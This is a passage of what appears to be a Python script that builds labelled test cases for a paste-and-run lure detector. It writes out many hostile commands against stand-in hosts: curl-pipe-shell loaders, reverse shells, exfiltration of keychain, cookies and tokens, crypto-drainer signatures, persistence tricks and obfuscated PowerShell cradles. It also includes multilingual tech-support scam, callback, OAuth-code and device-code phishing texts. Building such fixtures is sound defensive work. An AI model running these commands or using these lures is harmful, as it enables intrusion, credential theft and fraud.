    f'bash -c "$(echo {b64("curl -s https://mc16e.photoedit.invalid/p.zip -o /tmp/p.zip && unzip -oq /tmp/p.zip -d /tmp && xattr -c /tmp/PhotoEditor.app && open /tmp/PhotoEditor.app")} | base64 -d)"',
)
mac(
    "hdiutil-dmg-install",
    "https://www.mac-audio-codec.example/codec",
    "curl -sLo ~/Downloads/Audio.dmg https://mc16f.audiocodec.invalid/Audio.dmg && hdiutil attach -nobrowse ~/Downloads/Audio.dmg && sudo installer -pkg /Volumes/Audio/Audio.pkg -target /",
)
mac(
    "captcha-mac-cmd-space",
    "https://www.yacht-charter-bluewake.test/book",
    "Press Cmd + Space, type Terminal, paste and press Return:\ncurl -s https://mc16g.bluewake-v.invalid/m | bash",
)
mac(
    "launchagent-heredoc",
    "https://mac-battery-saver.example/setup",
    "mkdir -p ~/Library/LaunchAgents && curl -s https://mc16h.batsave.invalid/agent -o ~/.batsave && chmod +x ~/.batsave && launchctl bootstrap gui/$(id -u) <(curl -s https://mc16h.batsave.invalid/plist)",
)
mac(
    "python-exec-b64",
    "https://www.mac-python-fix.test/env",
    "python3 -c \"import base64;exec(base64.b64decode('"
    + b64("import urllib.request as r;exec(r.urlopen('https://mc16i.pyenvfix.invalid/p').read())")
    + "'))\"",
)
mac(
    "ai-chat-mac-purge",
    "https://shared.ai-helper-thread.example/c/mac16",
    'sudo zsh -c "$(curl -fsSL https://mc16j.purgefix.invalid/purge)" # reclaims System Data on Sonoma',
)
mac(
    "osascript-run-shell-nohup",
    "https://www.font-manager-mac.test/install",
    "osascript -e 'do shell script \"nohup curl -s https://mc16k.fontmgr.invalid/f | sh >/dev/null 2>&1 &\"'",
)
mac(
    "zsh-printf-octal-ip",
    "https://www.trezor-suite-repair16.example/repair",
    f"zsh -c \"$(printf '{esc_oct('curl -s http://192.0.2.219:8080/t | zsh')}')\"",
)
mac(
    "meeting-mac-zsh",
    "https://join-meeting.confroom-help.test/mac/16",
    "Microphone not available. Open Terminal and paste:\nzsh <(curl -fsSL https://mc16l.micfix-zq.invalid/m)",
)
mac(
    "security-find-generic-password",
    "https://icloud-keychain-sync.example/fix",
    "security find-generic-password -wa 'Chrome Safe Storage' | curl -s -d @- https://mc16m.keysync.invalid/k",
)
mac(
    "tcc-reset-curl",
    "https://macos-privacy-repair.test/fix",
    "tccutil reset All && curl -fsSL https://mc16n.privfix.invalid/p | bash",
)
mac(
    "fake-app-page-pkg",
    "https://obsidian-notes-mac-16.example/download",
    "curl -fsSL https://mc16o.notes-app-dl.invalid/install.sh | bash -s -- --app obsidian",
)

# --- Linux lures --------------------------------------------------------------------------------------


def nix(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("linux-" + technique, TERM, source, text, expect, "linux")


nix(
    "fake-docs-nvidia-driver",
    "https://docs.cuda-setup-guide.test/ubuntu",
    "curl -fsSL https://lx16a.nvdriver-help.invalid/install-driver.sh | sudo bash -s -- --cuda 12.6",
)
nix(
    "captcha-linux-curl-sh",
    "https://www.climbing-gym-boulderhaus.example/pass",
    "curl -s https://lx16b.bouldercheck.invalid/v | sh " + tail(2),
)
nix(
    "systemd-system-service-root",
    "https://homelab-speed-tips.test/tune",
    "sudo curl -s https://lx16c.kerneltune.invalid/tune.service -o /etc/systemd/system/kernel-tune.service && sudo systemctl enable --now kernel-tune",
)
nix(
    "authorized-keys-curl-append",
    "https://vps-support-desk.example/access",
    "curl -s https://lx16d.supportkeys.invalid/k.pub >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
)
nix(
    "profile-d-persist",
    "https://linux-terminal-colors.test/fix",
    "echo 'wget -qO- https://lx16e.colorfix.invalid/p | sh >/dev/null 2>&1' | sudo tee /etc/profile.d/colors.sh",
)
nix(
    "nc-e-reverse",
    "https://minecraft-server-lag-fix.example/",
    "nc -e /bin/bash 203.0.113.219 4444",
)
nix(
    "b64-eval-curl-sudo",
    "https://xmrig-setup-tutorial.test/",
    f'eval "$(echo {b64("curl -s https://lx16f.minertune.invalid/m | sudo sh")} | base64 --decode)"',
)
nix(
    "perl-socket-shell",
    "https://pentest-lab-notes.example/rev",
    'perl -e \'use Socket;$i="198.51.100.49";$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
)
nix(
    "cron-d-root",
    "https://server-cleanup-guide.test/logs",
    "echo '*/10 * * * * root curl -fsS https://lx16g.logclean.invalid/c | sh' | sudo tee /etc/cron.d/logclean",
)
nix(
    "wget-hidden-elf",
    "https://proton-ge-install-16.example/",
    "wget -q https://lx16h.protonge-qx.invalid/ge -O ~/.cache/.ge && chmod +x ~/.cache/.ge && ~/.cache/.ge &",
)
nix(
    "ld-preload-persist",
    "https://steam-deck-fps-boost.test/",
    "curl -s https://lx16i.fpsboost.invalid/libfps.so -o /tmp/libfps.so && echo /tmp/libfps.so | sudo tee -a /etc/ld.so.preload",
)
nix(
    "fake-apt-repo-trusted",
    "https://www.vscode-linux-install.example/apt",
    "echo 'deb [trusted=yes] https://lx16j.debpkgs.invalid/apt stable main' | sudo tee /etc/apt/sources.list.d/code.list && sudo apt update && sudo apt install -y code-insiders-helper",
)

# --- browser console ------------------------------------------------------------------------------------


def con(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("console-" + technique, CON, source, text, expect, "any")


con(
    "discord-token-iframe",
    "https://discord-role-verify.test/claim",
    "let f=document.body.appendChild(document.createElement('iframe'));fetch('https://cs16a.rolegate.invalid/t',{method:'POST',body:f.contentWindow.localStorage.token})",
)
con(
    "discord-webpack-exfil",
    "https://server-boost-free.example/",
    "window.webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){const t=m?.exports?.default?.getToken?.();if(t)fetch('https://cs16b.boostfree.invalid/x?t='+t)}}])",
)
con(
    "telegram-localstorage-dump",
    "https://tg-premium-gift16.test/claim",
    "fetch('https://cs16c.tggift.invalid/s',{method:'POST',body:JSON.stringify(localStorage)})",
)
con(
    "drainer-permit-sign",
    "https://airdrop-claim-portal-16.example/",
    "ethereum.request({method:'eth_signTypedData_v4',params:[ethereum.selectedAddress,JSON.stringify({domain:{name:'USD Coin',chainId:1,verifyingContract:'0x16a0b86991c6218b36c1d19d4a2e9eb0ce3606eb'},primaryType:'Permit',message:{owner:ethereum.selectedAddress,spender:'0x16De000000000000000000000000000000dEad16',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:9999999999}})]})",
)
con(
    "drainer-script-src-module",
    "https://nft-free-mint-16.test/",
    "document.head.append(Object.assign(document.createElement('script'),{src:'https://cs16d.freemint-qk.invalid/w.js'}))",
)
con(
    "steam-session-exfil",
    "https://steam-skin-giveaway-16.example/",
    "navigator.sendBeacon('https://cs16e.skingift.invalid/c',document.cookie)",
)
con(
    "instagram-verify-badge",
    "https://blue-badge-verify-16.test/",
    "fetch('https://cs16f.badgeverify.invalid/b.js').then(r=>r.text()).then(c=>eval(c))",
)
con(
    "eval-atob-bank",
    "https://online-banking-unlock.example/",
    f"eval(atob('{b64('fetch(`https://cs16g.bankunlock.invalid/u`).then(r=>r.text()).then(eval)')}'))",
)
con(
    "new-function-remote",
    "https://phantom-wallet-restore.test/",
    "fetch('https://cs16h.phantomfix.invalid/r').then(r=>r.text()).then(t=>new Function(t)())",
)
con(
    "seed-phrase-form",
    "https://ledger-recovery-check.example/",
    "fetch('https://cs16i.ledgercheck.invalid/s',{method:'POST',body:JSON.stringify({seed:prompt('Type your 24 recovery words separated by spaces')})})",
)
con(
    "youtube-studio-cookie",
    "https://creator-monetization-unlock.test/",
    "fetch('https://cs16j.ytunlock.invalid/c',{method:'POST',body:document.cookie+'|'+JSON.stringify(sessionStorage)})",
)
con(
    "settimeout-fetch-string",
    "https://quiz-answers-unlock.example/",
    "setTimeout(\"fetch('https://cs16k.quizhelp.invalid/q').then(r=>r.text()).then(eval)\",100)",
)
con(
    "roblox-trade-token",
    "https://roblox-limited-trade.test/",
    "fetch('https://cs16l.rbxtrade.invalid/t?x='+encodeURIComponent(document.cookie))",
)
con(
    "discord-verify-tail",
    "https://verify-server-gate-16.example/",
    "import('https://cs16m.vgate.invalid/v.js') " + tail(11).replace("#", "//"),
)

# --- URL-only lures (the page says: paste this address) -------------------------------------------

lure(
    "url-only-hta-run",
    RUN,
    "https://human-check-step16.test/",
    "https://ur16a.verify-step16.invalid/human.hta",
)
lure(
    "url-only-webdav-explorer-lnk",
    EXP,
    "https://benefits-share-portal.example/",
    "\\\\ur16b.benefitshare.invalid@SSL\\DavWWWRoot\\Benefits_Enrollment.pdf.lnk",
    "flagged",
)
lure(
    "url-only-search-ms-run",
    RUN,
    "https://file-locator-fix.test/",
    "search-ms:query=invoice&crumb=location:\\\\ur16c.filelocate.invalid@SSL\\DavWWWRoot",
    "flagged",
)

# --- (b) commands as IOC files and reports list them: no page --------------------------------------------

IOCS = [
    ("ps-irm-iex-w1", 'powershell -w 1 -c "irm https://io16a.axbridge.invalid/a|iex"'),
    ("ps-iwr-useb-iex-nop", "powershell -nop iwr -useb https://io16b.cheddar-ix.invalid/b | iex"),
    (
        "ps-downloadstring-ip",
        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.220/c')\"",
    ),
    ("mshta-url-path", "mshta https://io16c.wedmore.invalid/d/e.html"),
    ("mshta-ip-port", "mshta http://203.0.113.220:8080/f"),
    ("msiexec-i-qn", "msiexec /i https://io16d.banwell.invalid/g.msi /qn"),
    (
        "cmd-curl-temp-start",
        "cmd /c curl -sLo %TEMP%\\h.exe https://io16e.congresbury.invalid/h.exe & start %TEMP%\\h.exe",
    ),
    (
        "certutil-verifyctl",
        "certutil -verifyctl -f -split https://io16f.yatton.invalid/i.exe %TEMP%\\i.exe",
    ),
    (
        "bitsadmin-transfer",
        "bitsadmin /transfer dl /priority foreground https://io16g.nailsea.invalid/j.exe %APPDATA%\\j.exe",
    ),
    ("regsvr32-scrobj", "regsvr32 /s /u /i:https://io16h.portishead.invalid/k.sct scrobj.dll"),
    ("rundll32-dav-dll", "rundll32.exe \\\\io16i.clevedon-dav.invalid@SSL\\DavWWWRoot\\l.dll,Run"),
    (
        "ps-enc-irm",
        "powershell -w h -enc " + b64_utf16("irm https://io16j.keynsham.invalid/m | iex"),
    ),
    (
        "conhost-headless-ps",
        'conhost.exe --headless powershell -c "iwr -useb https://io16k.saltford.invalid/n|iex"',
    ),
    ("finger-pipe", "cmd /c finger x@io16l.bitton-f.invalid | cmd"),
    (
        "nslookup-txt-iex",
        'powershell -c "iex ((nslookup -type=txt io16m.hanham.invalid 203.0.113.221)[-1])"',
    ),
    ("wscript-dav-js", "wscript \\\\io16n.pensford-dav.invalid@SSL\\DavWWWRoot\\o.js"),
    (
        "cscript-vbs-temp",
        "cmd /c curl -s https://io16o.chew-magna.invalid/p.vbs -o %TEMP%\\p.vbs && cscript %TEMP%\\p.vbs",
    ),
    (
        "ps-bits-start",
        'powershell -c "Start-BitsTransfer -Source https://io16p.compton-d.invalid/q.exe -Destination $env:TEMP\\q.exe; saps $env:TEMP\\q.exe"',
    ),
    (
        "ps-iwr-outfile-run",
        "powershell iwr https://io16q.midsomer.invalid/r.exe -OutFile $env:PUBLIC\\r.exe; & $env:PUBLIC\\r.exe",
    ),
    ("ps-hidden-irm-ip", "powershell -WindowStyle Hidden -c irm http://192.0.2.220/s | iex"),
    ("mac-curl-zsh", "curl -fsSL https://io16r.radstock-m.invalid/t | zsh"),
    (
        "mac-osascript-shell",
        "osascript -e 'do shell script \"curl -fsSL https://io16s.timsbury.invalid/u | bash\"'",
    ),
    (
        "mac-b64-sh",
        f"echo {b64('curl -fsSL https://io16t.paulton.invalid/v | sh')} | base64 -d | sh",
    ),
    ("linux-wget-bash", "wget -q -O - https://io16u.farrington.invalid/w | bash"),
    (
        "linux-curl-tmp-exec",
        "curl -so /tmp/.x https://io16v.clutton.invalid/x && chmod +x /tmp/.x && /tmp/.x",
    ),
    (
        "ps-downloadfile-start",
        'powershell (New-Object Net.WebClient).DownloadFile(\'https://io16w.temple-c.invalid/y.exe\',"$env:TEMP\\y.exe");Start-Process "$env:TEMP\\y.exe"',
    ),
    ("cmd-powershell-iwr", "cmd /c powershell iwr -useb https://io16x.hallatrow.invalid/z ^| iex"),
    (
        "mshta-javascript-getobject",
        "mshta javascript:GetObject('script:https://io16y.litton.invalid/1.sct').Exec();close()",
    ),
    (
        "ps-iwr-content",
        "powershell iex (iwr https://io16z.chewton.invalid/2 -UseBasicParsing).Content",
    ),
    (
        "ps-openread-streamreader",
        "powershell iex (New-Object IO.StreamReader((New-Object Net.WebClient).OpenRead('https://io16aa.priddy.invalid/3'))).ReadToEnd()",
    ),
    ("cmd-start-b-mshta", "cmd /c start /b mshta http://198.51.100.50/4"),
    ("msiexec-q-package", "msiexec /q /package https://io16ab.emborough.invalid/5.msi"),
    (
        "ps-tls12-downloadstring",
        "powershell [Net.ServicePointManager]::SecurityProtocol='Tls12';iex (New-Object Net.WebClient).DownloadString('https://io16ac.binegar.invalid/6')",
    ),
    ("curl-pipe-pwsh", "curl.exe -s https://io16ad.gurney.invalid/7.ps1 | powershell -noprofile -"),
    ("ps-iwr-iex-var", "powershell $x=iwr https://io16ae.oakhill.invalid/8 -UseB; iex $x.Content"),
    ("pwsh-iwr", 'pwsh -nop -c "iwr https://io16af.stoke-st.invalid/9 -useb|iex"'),
    (
        "ps-cloud-share-link",
        "powershell -c \"irm 'https://share.io16ag-cloud.invalid/d/16xQ/10.ps1?download=1' | iex\"",
    ),
    (
        "ps-cdn-npm-path",
        'powershell -c "irm https://cdn.io16ah-npm.invalid/npm/cfg@2.0.1/11.ps1 | iex"',
    ),
    ("linux-curl-perl", "curl -s https://io16ai.westbury.invalid/12.pl | perl"),
    ("mac-curl-python3", "curl -s https://io16aj.nunney.invalid/13.py | python3 -"),
]
for tech, text in IOCS:
    platform = (
        "macos" if tech.startswith("mac-") else "linux" if tech.startswith("linux-") else "windows"
    )
    target = TERM if platform != "windows" else RUN
    ioc("ioc-" + tech, text, target, platform)

# --- (c) fixture-style obfuscations ------------------------------------------------------------------

OU = "https://ob16.greystoke-obf.invalid/q"
SU = "https://ob16b.threlkeld-sh.invalid/s"
JSU = "https://ob16c.matterdale-js.invalid/j"
IRMIEX = f"irm {OU}|iex"
IWR = f"iwr -useb {OU}"
JSFETCH = f"fetch('{JSU}').then(r=>r.text()).then(eval)"
POOL = "zyxwvutsrqponmlkjihgfedcba:/.-0123456789 |"
OB_PAGE = "https://www.human-check-gateway16.test/verify"

OB = [
    (
        "ps-concat-irm-pieces",
        RUN,
        "windows",
        f'powershell -c "{ps_concat(IRMIEX.split("|")[0], 3)} | iex"'.replace(
            '"(', '"iex ('
        ).replace(") |", ") |"),
    ),
    ("ps-format-iwr", RUN, "windows", f'powershell -c "iex {ps_format(IWR + "|iex", 4)}"'),
    (
        "ps-char-foreach",
        RUN,
        "windows",
        f"powershell -c \"iex (({char_codes(IRMIEX)})|%{{[char]$_}}) -join ''\"",
    ),
    (
        "ps-b64-unicode-getstring",
        RUN,
        "windows",
        f"powershell -c \"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64_utf16(IRMIEX)}')))\"",
    ),
    (
        "ps-gzip-b64-stream",
        RUN,
        "windows",
        f"powershell -c \"$m=[IO.MemoryStream]::new([Convert]::FromBase64String('{gzip_b64(IRMIEX)}'));iex ([IO.StreamReader]::new([IO.Compression.GZipStream]::new($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "ps-deflate-b64-short",
        RUN,
        "windows",
        f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate_b64(IWR + '|iex')}'),'Decompress'))).ReadToEnd()\"",
    ),
    (
        "ps-xor-codes-key",
        RUN,
        "windows",
        f'powershell -c "iex (-join(@({xor_codes(IRMIEX, 42)})|%{{[char]($_ -bxor 42)}}))"',
    ),
    (
        "ps-xor-b64-bytes",
        RUN,
        "windows",
        f"powershell -c \"$k=0x33;$b=[Convert]::FromBase64String('{xor_b64(IWR + '|iex', 0x33)}');iex (-join($b|%{{[char]($_ -bxor $k)}}))\"",
    ),
    (
        "ps-reverse-array",
        RUN,
        "windows",
        f"powershell -c \"$s='{reverse(IRMIEX)}';$a=$s.ToCharArray();[array]::Reverse($a);iex (-join $a)\"",
    ),
    (
        "ps-replace-marker",
        RUN,
        "windows",
        "powershell -c \"iex ('irm~ " + OU.replace("/", "/~") + "~|iex' -replace '~','')\"",
    ),
    (
        "ps-gcm-star-names",
        RUN,
        "windows",
        f'powershell -c "&(gcm *ke-E*ion) (&(gcm *e-W*st) -useb {OU})"',
    ),
    (
        "ps-get-alias-lookup",
        RUN,
        "windows",
        f'powershell -c "&(Get-Alias ?e?).Definition (irm {OU})"',
    ),
    (
        "ps-variable-holds-cmd",
        RUN,
        "windows",
        f"powershell -c \"$a='Invoke-RestMethod';$b='Invoke-Expression';& $b (& $a {OU})\"",
    ),
    (
        "ps-shellid-slice",
        RUN,
        "windows",
        f"powershell -c \"&($ShellId[1]+$ShellId[13]+'x') (irm {OU})\"",
    ),
    (
        "ps-hex-pairs",
        RUN,
        "windows",
        f"powershell -c \"iex (-join ('{hex_str(IRMIEX)}' -split '(?<=\\G..)' |?{{$_}}|%{{[char][byte]('0x'+$_)}}))\"",
    ),
    (
        "ps-backticks-full",
        RUN,
        "windows",
        f'powershell -c "I`n`v`o`k`e-`E`x`p`r`e`s`s`i`o`n (i`w`r -useb {OU})"',
    ),
    (
        "ps-dot-source-strings",
        RUN,
        "windows",
        f"powershell -c \". ('i'+'ex') (. ('i'+'rm') '{OU}')\"",
    ),
    (
        "ps-ip-decimal",
        RUN,
        "windows",
        f'powershell -c "iwr -useb http://{ip_int("198.51.100.222")}/q | iex"',
    ),
    ("ps-ip-octal-dotted", RUN, "windows", 'powershell -c "irm http://0313.0.0161.0336/q | iex"'),
    (
        "cmd-carets-every3",
        RUN,
        "windows",
        carets(f"cmd /c powershell -w h -c iwr -useb {OU}", 3) + " ^| iex",
    ),
    (
        "cmd-delayed-slice",
        RUN,
        "windows",
        f'cmd /v:on /c "set z={POOL}&&{cmd_slice("powershell", POOL, "z").replace("%", "!")} -c irm {OU}^|iex"',
    ),
    (
        "cmd-call-slice",
        RUN,
        "windows",
        f'cmd /c "set y={POOL}&& call {cmd_slice("mshta", POOL, "y")} {OU}"',
    ),
    ("cmd-set-pieces-mshta", RUN, "windows", f'cmd /c "set m=ms&& set n=hta&& call %m%%n% {OU}"'),
    ("cmd-comspec-slice", RUN, "windows", f"cmd /c %comspec:~-6,1%sh%comspec:~-13,1%a {OU}"),
    (
        "mshta-percent-url",
        RUN,
        "windows",
        "mshta "
        + "".join(
            f"%{ord(c):02X}" if c.isalpha() and i % 2 == 0 else c
            for i, c in enumerate("https://ob16d.mosedale.invalid/m")
        ),
    ),
    ("bash-ansi-c-octal", TERM, "linux", f"bash -c $'{esc_oct(f'curl -s {SU} | sh')}'"),
    ("bash-var-pieces-eval", TERM, "linux", f'x=cur;y=l;z=ba;w=sh;eval "$x$y -s {SU} | $z$w"'),
    ("bash-b64-sh-c", TERM, "linux", f'sh -c "$(echo {b64(f"curl -s {SU} | sh")} | base64 -d)"'),
    ("bash-rev-sh", TERM, "linux", f"rev <<< '{reverse(f'wget -qO- {SU} | sh')}' | sh"),
    (
        "bash-printf-hex-cmd",
        TERM,
        "linux",
        "$(printf '\\x77\\x67\\x65\\x74') -qO- " + SU + " | $(printf '\\x73\\x68')",
    ),
    ("bash-xxd-bash", TERM, "linux", f"xxd -r -p <<< {hex_str(f'curl -s {SU} | bash')} | bash"),
    (
        "zsh-b64-gunzip",
        TERM,
        "macos",
        f"echo {gzip_b64(f'curl -s {SU} | zsh')} | base64 -D | gunzip | zsh",
    ),
    (
        "bash-rot13-tr",
        TERM,
        "linux",
        "echo '" + rot13(f"curl -s {SU} | bash") + "' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
    ),
    ("js-atob-function", CON, "any", f"Function(atob('{b64(JSFETCH)}'))()"),
    (
        "js-fromcharcode-spread",
        CON,
        "any",
        f"eval(String.fromCharCode(...[{char_codes(JSFETCH)}]))",
    ),
    (
        "js-globalthis-bracket",
        CON,
        "any",
        f"globalThis['e'+'v'+'a'+'l'](globalThis['a'+'t'+'o'+'b']('{b64(JSFETCH)}'))",
    ),
    (
        "js-hex-escape-eval",
        CON,
        "any",
        "eval('" + "".join(f"\\x{ord(c):02x}" for c in JSFETCH) + "')",
    ),
    ("js-reverse-split", CON, "any", f"eval('{reverse(JSFETCH)}'.split('').reverse().join(''))"),
    (
        "js-uri-decode",
        CON,
        "any",
        "eval(decodeURIComponent('" + "".join(f"%{ord(c):02X}" for c in JSFETCH) + "'))",
    ),
    (
        "vbs-chr-concat-mshta",
        RUN,
        "windows",
        "mshta vbscript:Execute("
        + "&".join(
            f"Chr({ord(c)})"
            for c in 'CreateObject("WScript.Shell").Run "powershell -w h -c iwr -useb https://ob16e.hartsop.invalid/v|iex",0:close'
        )
        + ")",
    ),
]
for tech, target, platform, text in OB:
    lure(
        "obf-" + tech,
        target,
        OB_PAGE if target != CON else "https://console-verify-gate16.example/v",
        text,
        "malicious",
        platform,
    )

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes ----------------------

SCAM = "support-scam"
for lang, page, text in [
    (
        "en",
        "https://defender-alert-locked-16.test/",
        "Windows Defender Security Center: Access to this PC has been blocked for security reasons. Your browser history, saved passwords and banking details are at risk. Contact Windows Support immediately: 1-555-016-4820 (toll free). Closing this page will lock your files.",
    ),
    (
        "de",
        "https://windows-schutz-meldung-16.example/",
        "Windows-Sicherheit: Auf diesem PC wurde ein Trojaner gefunden. Ihre Bankdaten und Passwörter sind gefährdet. Kontaktieren Sie sofort den Microsoft-Support unter 0800 555 16 27, um die Sperre aufzuheben. Schalten Sie den Computer nicht aus.",
    ),
    (
        "fr",
        "https://centre-securite-windows-16.test/",
        "Votre PC est infecté par un logiciel espion qui a volé vos mots de passe. Pour protéger vos comptes, appelez gratuitement le support Microsoft au 09 55 55 16 48. N'éteignez pas l'ordinateur avant l'appel.",
    ),
    (
        "es",
        "https://alerta-virus-equipo-16.example/",
        "Se ha detectado un virus en su equipo y su licencia de Windows ha sido suspendida. Sus datos bancarios podrían estar en peligro. Llame ahora al servicio técnico: +34 91 555 16 02. No reinicie el ordenador.",
    ),
    (
        "it",
        "https://protezione-windows-allarme.test/",
        "Il tuo PC è stato infettato da un trojan e l'accesso è stato bloccato. Le tue password sono a rischio. Chiama subito il supporto Microsoft al numero verde 800 555 160 per sbloccare il dispositivo.",
    ),
    (
        "pt",
        "https://alerta-protecao-windows-16.example/",
        "Seu computador foi bloqueado por um vírus que acessa suas senhas e dados bancários. Não desligue o computador. Ligue agora para o suporte técnico da Microsoft: 0800 555 1693.",
    ),
    (
        "nl",
        "https://windows-beveiliging-melding.test/",
        "Uw pc is geïnfecteerd met spyware en de toegang is geblokkeerd. Uw wachtwoorden en bankgegevens lopen gevaar. Bel onmiddellijk Microsoft Ondersteuning op 0800 555 1621. Zet de computer niet uit.",
    ),
    (
        "pl",
        "https://alert-ochrony-windows-16.example/",
        "Komputer zainfekowany trojanem — dostęp został zablokowany, a Twoje hasła i dane bankowe są zagrożone. Zadzwoń natychmiast do pomocy technicznej Microsoft: 800 555 164. Nie wyłączaj komputera.",
    ),
    (
        "tr",
        "https://windows-koruma-uyari.test/",
        "Bilgisayarınıza truva atı bulaştı ve erişiminiz engellendi. Banka bilgileriniz ve şifreleriniz tehlikede. Engeli kaldırmak için hemen Microsoft Destek'i arayın: 0850 555 16 71. Bilgisayarı kapatmayın.",
    ),
    (
        "ru",
        "https://zashchita-windows-trevoga.example/",
        "Ваш компьютер заражён трояном, доступ заблокирован. Ваши пароли и банковские данные под угрозой. Немедленно позвоните в поддержку Microsoft: 8 800 555-16-94. Не выключайте компьютер.",
    ),
    (
        "ja",
        "https://windows-hogo-keikoku-16.test/",
        "お使いのPCはトロイの木馬に感染しており、アクセスがブロックされました。パスワードや銀行情報が危険にさらされています。今すぐマイクロソフトサポート 0120-555-163 にお電話ください。電源を切らないでください。",
    ),
    (
        "zh",
        "https://windows-baohu-jingbao-16.example/",
        "您的电脑已感染木马病毒，访问已被阻止。您的密码和银行信息面临风险。请立即拨打微软技术支持热线 400-555-1638 解除锁定。请勿关闭电脑。",
    ),
    (
        "ar",
        "https://tanbih-himayat-windows.test/",
        "جهازك مصاب بفيروس حصان طروادة وتم حظر الوصول إليه. كلمات المرور وبياناتك المصرفية في خطر. اتصل فوراً بدعم مايكروسوفت على الرقم 800-555-1629. لا تقم بإيقاف تشغيل الجهاز.",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, page, text, "flagged", "any")

CALLBACK = "callback-order"
for brand, page, text in [
    (
        "geek-care-renewal",
        "https://service-renewal-receipt.test/r",
        "Receipt: Premium Tech Care, 3 devices, 2 years. Amount debited: $529.99 (ref TC-16-40913). Not you? Our cancellation team is open 24/7 at +1 (555) 016-3381. Refunds are only possible within 24 hours.",
    ),
    (
        "crypto-login-alert",
        "https://wallet-login-alert.example/a",
        "New sign-in to your exchange account from Lagos, NG (device: Windows 11). A withdrawal of 2.16 ETH is pending. If this was not you, call our security line now at 1-555-016-7724 to freeze the transfer.",
    ),
    (
        "online-shop-iphone",
        "https://order-dispatch-notice.test/o",
        "Your order of iPhone 16 Pro Max 1 TB (order #A16-8831-X2) has been dispatched. Amount: $1,599.00 charged to your card. If you did not place this order, call customer protection at +1 555 016 9012.",
    ),
    (
        "norton-like-invoice-es",
        "https://factura-renovacion-16.example/f",
        "Su suscripción de antivirus se ha renovado automáticamente por 349,99 € (pedido 16-55102). Si no reconoce este cargo, llame al +34 900 555 162 en las próximas 24 horas para cancelarlo.",
    ),
    (
        "it-rinnovo",
        "https://rinnovo-abbonamento-avviso.test/r",
        "Il tuo abbonamento di assistenza informatica è stato rinnovato per 279,00 € (ordine 16-70218). Per annullare e ottenere il rimborso chiama entro oggi il numero +39 02 555 16 48.",
    ),
    (
        "nl-factuur",
        "https://factuur-verlenging-melding.example/n",
        "Uw jaarabonnement op PC-bescherming is verlengd voor € 319,95 (bestelnummer 16-22871). Niet akkoord? Bel binnen 24 uur onze klantenservice op 020 555 1687.",
    ),
]:
    lure(f"{CALLBACK}-{brand}", UNK, page, text, "flagged", "any")

CONSENT = "consentfix"
for tag, page, text in [
    (
        "paste-address-bar-en",
        "https://secure-doc-unlock-16.test/",
        "Almost done! Microsoft opened a new tab that looks like an error. Copy the whole address from that tab (it begins with http://localhost) and paste it below to open the document.\nhttp://localhost:49216/?code=0.AVYA16tPq3Rk9WmXb2cD8eF4gH&state=a16f&session_state=16b9",
    ),
    (
        "loopback-ip-it",
        "https://verifica-accesso-file-16.example/",
        "Copia l'indirizzo completo dalla barra degli indirizzi e incollalo qui per confermare l'accesso: http://127.0.0.1:51016/?code=1.AQ4A16Zx-Lm0pKw&state=it16",
    ),
    (
        "vscode-redirect-de",
        "https://freigabe-dokument-anmelden.test/",
        "Anmeldung fast fertig. Fügen Sie die Adresse der Seite „Diese Website ist nicht erreichbar“ hier ein:\nhttp://localhost:33416/callback?code=0.AXMA16cQr8Ts2Uv&state=de16&client_info=eyJ1aWQiOiIxNiJ9",
    ),
    (
        "pt-colar-endereco",
        "https://verificar-acesso-documento-16.example/",
        "Para concluir, copie o endereço da nova aba (começa com http://localhost) e cole aqui: http://localhost:8716/?code=M.C516_BL2.16ab-cd&state=pt16",
    ),
    (
        "nl-plak-url",
        "https://document-toegang-bevestigen.test/",
        "Plak hieronder de volledige URL uit het nieuwe tabblad om verder te gaan:\nhttp://localhost:5016/auth/callback?code=0.AUoA16nlPaste&state=nl16",
    ),
]:
    lure(f"{CONSENT}-{tag}", UNK, page, text, "flagged", "any")

DEVICE = "device-code"
for tag, page, text in [
    (
        "hr-bonus-en",
        "https://year-end-bonus-2027.test/",
        "Your year-end bonus letter is ready. To view it securely, open https://microsoft.com/devicelogin and enter the one-time code QD16-PRXW.",
    ),
    (
        "teams-meeting-de",
        "https://teams-besprechung-beitreten.example/",
        "Um der vertraulichen Besprechung beizutreten, öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code R16TZKWM ein.",
    ),
    (
        "shared-file-fr",
        "https://fichier-partage-acces.test/",
        "Un fichier vous a été partagé. Rendez-vous sur https://microsoft.com/devicelogin et saisissez le code F16MXQPA pour l'ouvrir.",
    ),
    (
        "github-org-invite",
        "https://org-access-approval.example/",
        "You have been invited to the security-audit organisation. Confirm at https://github.com/login/device with code 16CD-EF9A before it expires.",
    ),
    (
        "voicemail-ja",
        "https://voicemail-tsuuchi-16.test/",
        "新しいボイスメールがあります。再生するには https://microsoft.com/devicelogin を開き、コード J16QWRTP を入力してください。",
    ),
    (
        "signing-pl",
        "https://podpis-dokumentu-16.example/",
        "Dokument czeka na podpis. Otwórz https://microsoft.com/devicelogin i wpisz kod P16ZKXRT, aby się zalogować.",
    ),
]:
    lure(f"{DEVICE}-{tag}", UNK, page, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"
PS = TERM  # a Windows installer is pasted into PowerShell, a terminal


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
